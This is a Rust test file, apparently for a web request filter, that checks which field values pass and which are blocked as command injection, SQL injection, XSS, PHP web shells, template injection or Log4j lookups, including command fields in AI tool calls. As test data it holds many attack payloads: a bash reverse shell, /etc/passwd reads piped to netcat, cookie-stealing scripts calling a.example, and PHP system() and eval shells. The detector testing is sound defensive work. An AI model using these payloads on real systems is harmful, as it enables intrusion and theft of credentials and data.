//! Fields and files for programs.

use super::Check;
use crate::{Class, Place};

/// Programs that a text shows or speaks of: a line of one begins as those of a shell do.
#[test]
fn programs_in_texts() {
    let mut check = Check::default();
    for text in [
        "version=$(git describe --tags)\ndocker build -t app:\"$version\" . && docker push app",
        "export V=$(cat VERSION)",
        "VERSION := $(shell git describe --tags)\nall:\n\tgo build ./...\n",
        "wc -l data/*.csv; du -sh data\necho $(date) > stamp.txt",
        "gcloud run deploy api --image gcr.io/x/api:$(git rev-parse --short HEAD)",
        "try: sudo systemctl restart nginx && journalctl -u nginx -n 50 --no-pager",
        "<ac:plain-text-body><![CDATA[for h in db1 db2; do ssh $h 'systemctl status x | head -3'; done]]></ac:plain-text-body>",
        "if [ -f ~/.bashrc ]; then . ~/.bashrc; fi",
        "FROM a:1\nRUN apt-get update && apt-get install -y gcc \\\n    && rm -rf /var/lib/apt/lists/*\n",
        "> What does `umask` say?\n\n$ umask; id -u\n0022\n1000",
        "Python has a built-in ``dir`` function, and (``pwd``, ``ls``, and ``cp``) do the rest",
    ] {
        for name in ["comment", "readme", "message"] {
            check.passes(Class::Command, name, text);
        }
        check.blocked(Class::Command, "host", &format!("x;{text};cat /etc/passwd"));
    }
    for text in [
        "x``id`y``$(id)",
        "$(id)",
        "hello $(id)",
        "a b=$(id)",
        "a=;b=$(cat /etc/passwd)",
        "if you like $(id)",
        "for me $(id)",
        "note: $(id)",
        "note: x;cat /etc/passwd",
        "x 1 -- $(id)",
        "version=$(cat /etc/passwd)",
        "version=$(curl http://a.example/x)",
        "try: ls $(wget http://a.example/x)",
        "if [ 1 ]; c''at /etc/passwd",
        "hello \\\n    ; cat /etc/passwd",
        // No program is written so.
        "v=1;cat /etc/passwd",
        "v=1; cat /etc/passwd",
        "tool -a;cat /etc/passwd",
        "try: ls;cat /etc/passwd",
        "if [ 1 ];cat /etc/passwd",
        "$ tool|cat /etc/passwd",
    ] {
        for name in ["comment", "readme", "message"] {
            check.blocked(Class::Command, name, text);
        }
    }
    check.done();
}

/// The command line that a language model gives a tool, as the protocols write it: nothing breaks out of a
/// line that begins with a command.
#[test]
fn calls_of_tools() {
    const CALL: &str = "messages.messages.tool_calls.tool_calls.function.arguments";
    const NAMES: [&str; 2] = ["params.arguments.command", "messages.content.content.input.command"];
    let mut check = Check::default();
    for line in [
        "cd /app && pytest -q",
        "curl -s http://localhost:3000/health | jq .",
        "kill $(lsof -ti:3000) || true",
        "which node; node -v",
        "id; whoami; pwd",
        "python3 -c \"print(1)\"",
    ] {
        for name in NAMES {
            check.at(Place::Json, Class::Command, name, line, false);
        }
        let document = format!("{{\"cmd\": \"{}\"}}", line.replace('"', "\\\""));
        check.at(Place::Json, Class::Command, CALL, &document, false);
        let words = document.replace(": ", ": [\"bash\", \"-lc\", ").replace('}', "]}");
        check.at(Place::Json, Class::Command, CALL, &words, false);
        let document = document.replace("cmd", "repo");
        check.at(Place::Json, Class::Command, CALL, &document, true);
        for name in ["command", "params.arguments.repo", "params.command", "ids.arguments.command"] {
            check.at(Place::Json, Class::Command, name, line, true);
        }
        for place in [Place::Query, Place::Form, Place::Cookie] {
            check.at(place, Class::Command, NAMES[0], line, true);
        }
    }
    let wait = "until nslookup db.default.svc.cluster.local; do echo waiting; sleep 2; done";
    for (name, is_blocked) in [("spec.initContainers.command", false), ("spec.containers.host", true)] {
        check.at(Place::Json, Class::Command, name, wait, is_blocked);
        check.at(Place::Json, Class::Command, name, "x;cat /etc/passwd", true);
    }
    check.at(Place::Json, Class::Sqli, NAMES[0], "psql -c \"select count(*) from users\"", false);
    for line in [
        ";cat /etc/passwd",
        "x;id",
        "$(id)",
        "a b | nc 192.0.2.1 99",
        "ls; c''at /etc/hosts",
        "cat /etc/passwd",
        "bash -i >& /dev/tcp/192.0.2.7/99 0>&1",
        "' or 1=1-- -",
    ] {
        for name in NAMES {
            check.at(Place::Json, Class::Command, name, line, true);
        }
    }
    check.done();
}

/// A class is no web shell; what takes something of a request, runs or reaches something in a source of any
/// length is.
#[test]
fn sources_of_php() {
    let source = "<?php\nnamespace App;\n\n/** A class. */\nclass A\n{\n    public $b = 1;\n    public function c() { return $this->b; }\n";
    let mut check = Check::default();
    check.passes(Class::Code, "content", &format!("{source}}}\n"));
    check.at(Place::FileContent, Class::Code, "file", &format!("{source}}}\n"), false);
    for payload in [
        "system($_GET['c']);",
        "system('id');",
        "$f = 'sys' . 'tem'; $f('id');",
        "('sys' . 'tem')('id');",
        "echo `id`;",
        "eval(base64_decode('aWQ='));",
        "include $_POST['x'];",
        "phpinfo();",
    ] {
        check.at(
            Place::FileContent,
            Class::Code,
            "file",
            &format!("{source} function d() {{ {payload} }} }}\n"),
            true,
        );
    }
    check.blocked(Class::Code, "id", &format!("{source}}}\n"));
    check.done();
}

/// Files that an editor saves: what of them is no piece of something else, and what stays one.
#[test]
fn files_in_fields() {
    const PROGRAM: &str = "// Splits a query, as browsers' do.\nvar q = {};\nparts.forEach(function (x) {\n";
    const PAGE: &str = "<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\"><link rel=\"stylesheet\" href=\"/a.css\">\n";
    let mut check = Check::default();
    for name in ["content", "source_code", "wpTextbox1", "file.data", "asset.value", "body"] {
        for line in [
            "  q[x.split('=')[0]] = x.split('=')[1] || '';",
            "  if (c == '\\'' || c == '\"' && d == ')') { s = \"'\" + s + \"'\"; }",
            "  s = 'a' + (x ? ' or ' : ' and ') + b + ';'; return s + '--';",
            "  out.push('<li>' + x + '</li>'); y = \"--'\"; # '",
        ] {
            check.passes(Class::Sqli, name, &format!("{PROGRAM}{line}\n}});\n"));
        }
        for attack in [
            "x' or '1'='1",
            "1' union select name, password from users -- ",
            "it' || (select 1 from (select sleep(5))a) || '",
            "' or 1=1 -- ",
            "a'; drop table users -- ",
        ] {
            check.blocked(Class::Sqli, name, &format!("{PROGRAM}{attack}"));
        }
        for script in [
            "<script src=\"https://cdn.example/d3.min.js\"></script><script>d3.select('#a').append('svg');</script>",
            "<script>var t = localStorage.getItem('t'); if (t === null) { t = 'dark'; }</script>",
            "<body onload=\"init()\"><a href=\"#\" onclick=\"show('b'); return false\">b</a>",
        ] {
            check.passes(Class::Xss, name, &format!("{PAGE}{script}\n</html>"));
        }
        for script in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(document.domain)>",
            "<script>new Image().src = '//a.example/?' + document.cookie</script>",
            "<svg onload=\"fetch('//a.example/', {method: 'POST', body: localStorage.getItem('t')})\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<script src=\"//a.example/x.js\"></script>",
            "<script src=http://a.example/x.js></script>",
            "<script language=vbs>msgbox 1</script>",
            "<script>window['al' + 'ert'](1)</script>",
            "<iframe srcdoc=\"&lt;script>alert(1)&lt;/script>\"></iframe>",
            "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        ] {
            check.blocked(Class::Xss, name, &format!("{PAGE}{script}\n</html>"));
        }
        check.blocked(Class::Log4j, name, &format!("{PAGE}${{jndi:ldap://a.example/x}}\n</html>"));
        // In fields for code these are what the field is for.
        if name == "source_code" {
            continue;
        }
        check.blocked(Class::Template, name, &format!("{PAGE}{{{{9*9}}}}{{{{config.__class__}}}}\n</html>"));
        check.blocked(Class::Command, name, &format!("#!/bin/sh\n# {PROGRAM}x;cat /etc/passwd\n"));
        check.blocked(Class::Command, name, &format!("#!/bin/sh\n# {PROGRAM}x; c''at /etc/passwd\n"));
        check.blocked(Class::Command, name, &format!("#!/bin/sh\n# {PROGRAM}& cat /etc/passwd\n"));
        check.blocked(
            Class::Command,
            name,
            &format!("#!/bin/sh\n# {PROGRAM}() {{ :;}}; /bin/cat /etc/passwd\n"),
        );
        check.blocked(Class::Sqli, name, &format!("{PROGRAM}1%' or (1=1)*4 and '%'='"));
    }
    check.passes(
        Class::Command,
        "content",
        "#!/bin/sh\n# Tells what runs.\nfor h in a b; do ssh \"$h\" uptime; done\nif [ -f /etc/os-release ]; then cat /etc/os-release; fi\n",
    );
    let script = "<script>d3.select('#a').append('svg').attr('x', 1);</script><body onload=\"init()\">";
    for name in ["comment", "id", "q", "name", "url", "data", "value", "message"] {
        check.blocked(Class::Xss, name, &format!("{PAGE}{script}\n</html>"));
    }
    for place in [Place::Query, Place::Header, Place::Cookie] {
        check.at(place, Class::Xss, "content", &format!("{PAGE}{script}\n</html>"), true);
    }
    // Text before it makes a piece of a page of it.
    check.blocked(
        Class::Xss,
        "content",
        &format!("Hello, this is what I found yesterday:\n{PAGE}{script}\n</html>"),
    );
    check.done();
}

/// Sources of PHP in fields for files: applications read requests and start programs, shells run what they
/// are sent.
#[test]
fn applications_of_php() {
    let class = |body: &str| {
        format!(
            "<?php\nnamespace App;\n\n/** A page. */\nclass Page\n{{\n    function show()\n    {{\n        {body}\n    }}\n}}\n"
        )
    };
    let mut check = Check::default();
    for body in [
        "$t = $_GET['tab'] ?? 'home'; include __DIR__ . '/tabs/home.php'; echo htmlspecialchars($t);",
        "exec('git rev-parse HEAD', $out); return $out[0];",
        "return array_map('trim', $_POST['names']);",
        "$this->db->exec('vacuum'); return $this->call($_REQUEST['x']);",
    ] {
        check.passes(Class::Code, "content", &class(body));
        check.at(Place::FileContent, Class::Code, "file", &class(body), false);
        check.blocked(Class::Code, "comment", &class(body));
        check.blocked(Class::Code, "id", &class(body));
    }
    for body in [
        "system($_GET['c']);",
        "$c = trim($_POST['c']); $d = 'sh -c ' . $c; passthru($d);",
        "eval(base64_decode('ZWNobyAxOw=='));",
        "$f = 'sys' . 'tem'; $f('id');",
        "$_GET['f']($_GET['x']);",
        "exec('cat /etc/passwd');",
        "include($_REQUEST['page']);",
        "file_put_contents($_POST['f'], $_POST['d']);",
    ] {
        check.blocked(Class::Code, "content", &class(body));
        check.at(Place::FileContent, Class::Code, "file", &class(body), true);
    }
    check.done();
}

#[test]
fn pieces_of_programs() {
    let mut check = Check::default();
    let script = |line: &str| {
        format!(
            "'use strict';\n\nconst a = {line};\n\nmodule.exports = {{ a, b: 'a text of a program that is long enough' }};\n"
        )
    };
    for line in ["require('../../core/util')", "require(\"../../../lib/a-b.c\")"] {
        check.passes(Class::Code, "content", &script(line));
        check.at(Place::FileContent, Class::Code, "file", &script(line), false);
        check.blocked(Class::Code, "q", &script(line));
    }
    for line in
        ["require('../../etc/shadow')", "require('../../../home/a/.ssh/id_rsa')", "require('../../a/.env')"]
    {
        check.blocked(Class::Code, "content", &script(line));
    }
    check.passes(Class::Xss, "content", &script("typeof onFulfilled === 'function' ? 1 : 2"));
    check.blocked(Class::Xss, "q", "\" onfulfilled=alert(1) x=\"");
    check.passes(
        Class::Sqli,
        "content",
        &script("'With ``--global\'\' or ``--region=A\'\' flags. For more'"),
    );
    check.blocked(Class::Sqli, "q", "' or `id`-- ");
    check.done();
}

#[test]
fn files_as_programs_and_people_write_them() {
    let mut check = Check::default();
    let long = "/* what was made small */".repeat(60);
    // A program that was made small is one line.
    let bundle = format!(
        "\"use strict\";(self.chunks=self.chunks||[]).push([[1],{{2:(e,t,r)=>{{r.d(t,{{Z:()=>n}});var n='a'+r(3)}}}}]);{long}"
    );
    check.passes(Class::Xss, "content", &bundle);
    check.blocked(Class::Xss, "q", "\";(self.a=self.b||[]).push(alert(1));//");
    let class = format!("class ${{constructor(e,t){{this.text=void 0,this.height=e(t)}}}}{long}");
    check.passes(Class::Template, "content", &class);
    check.blocked(
        Class::Template,
        "content",
        &class.replace("class ${constructor(", "x ${constructor.constructor("),
    );
    let scripts =
        ["const { spawn } = require('child_process')", "import { spawn } from 'node:child_process'"];
    for line in scripts {
        check.passes(Class::Code, "content", &format!("'use strict'\n\n{line}\n\nmodule.exports = (a) => spawn(process.execPath, a, {{ stdio: 'inherit' }})\n"));
        check.blocked(Class::Code, "content", &format!("'use strict'\n\n{line}\n\nrequire('child_process').exec('cat /etc/passwd | nc 10.0.0.1 99')\n// a comment to be long\n"));
    }
    for line in ["const { exec: e } = require('child_process')", "const e = require('child_process')['exec']"]
    {
        check.blocked(Class::Code, "content", &format!("'use strict'\n\n{line}\n\nmodule.exports = (a) => e('cat /etc/passwd | nc 10.0.0.1 99', a, 1)\n"));
    }
    // Templates that are data to a browser.
    for kind in ["text/x-red", "text/x-handlebars-template", "application/vnd.api+json"] {
        check.passes(
            Class::Xss,
            "html",
            &format!("<script type=\"{kind}\" data-name=\"a\"><p>{{{{ a }}}}</p></script>"),
        );
    }
    for kind in ["text/javascript", "text/babel", "text/ng-template", "text/java&#x73;cript", "module", "x"] {
        check.blocked(
            Class::Xss,
            "comment",
            &format!("<script type=\"{kind}\">fetch('//a.example/?'+document.cookie)</script>"),
        );
    }
    let page = |handler: &str| {
        format!(
            "<!DOCTYPE html>\n<html><head><title>Help</title></head><body>\n<a href=\"#\" onclick=\"{handler}\">More</a>\n</body></html>\n"
        )
    };
    check.passes(Class::Xss, "content", &page("window.open('a_b.html', '', ''); return false;"));
    for handler in [
        "window.open('//a.example/'+document.cookie)",
        "window.open('javascript:alert(1)')",
        "window.open('a.html', '', '');alert(1)",
    ] {
        check.blocked(Class::Xss, "content", &page(handler));
    }
    check.passes(
        Class::Command,
        "content",
        &"const id = this.id;\nreturn base !== null && id !== void 0 ? id : base;\n".repeat(3),
    );
    check.blocked(Class::Command, "content", "true && id\n");
    // Texts of several lines between three quotes.
    let toml = "[package]\nname = \"a\"\nreplace = \"\"\"\n<!-- next-header -->\n## [Unreleased] - ReleaseDate\n\"\"\"\nexactly = 1\n\n[[package.replacements]]\nfile = \"CHANGELOG.md\"\n";
    check.passes(Class::Sqli, "content", toml);
    check.blocked(Class::Sqli, "content", &format!("{toml}x\" or 1=1 -- "));
    check.blocked(Class::Sqli, "content", &format!("{toml}x = \"\"\" y\n' or 1=1 -- "));
    let code = "int once_tid = mi_atomic_load_acquire(&once->tid);\nif (once_tid == 0) {\n  return mi_run(once_tid, \"a\");\n}\n".repeat(2);
    check.passes(Class::Xss, "content", &code);
    // Charts for Kubernetes, in Go's templates.
    let chart = "metadata:\n  name: {{ include \"app.name\" . }}\n  labels: {{- toYaml .Values.labels | nindent 4 }}\n  port: {{ default \"80\" .Values.port }}\n  {{- range printf \"%s\" .Values.hosts }}\n  {{- end }}\n";
    check.passes(Class::Template, "content", chart);
    check.passes(Class::Template, "comment", chart);
    for text in [
        "{{ 'a' .class }}",
        "{{ not ''.__class__ }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ empty ''.getClass() }}",
    ] {
        check.blocked(Class::Template, "content", text);
        check.blocked(Class::Template, "q", text);
    }
    check.passes(
        Class::Template,
        "content",
        &format!(
            "====== Admin ======\n\nSee [[doku>config]] and [[wiki:syntax]].\n{}",
            "More words. ".repeat(10)
        ),
    );
    let dump = "CREATE TABLE `a` (\n  `b` int(10) UNSIGNED NOT NULL AUTO_INCREMENT,\n  `c` varchar(128) NOT NULL,\n  PRIMARY KEY (`b`)\n) /*!40000 ENGINE=INNODB */ /*!40101 CHARACTER SET utf8 */;\n";
    check.passes(Class::Sqli, "content", dump);
    check.passes(
        Class::Sqli,
        "content",
        &format!("-- Updates from version 0.6\n\n/*!40014 SET FOREIGN_KEY_CHECKS=0 */;\n\n{dump}"),
    );
    check.blocked(
        Class::Sqli,
        "content",
        &dump.replace("ENGINE=INNODB", "UNION SELECT load_file('/etc/passwd')"),
    );
    check.blocked(Class::Sqli, "q", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3");
    check.done();
}
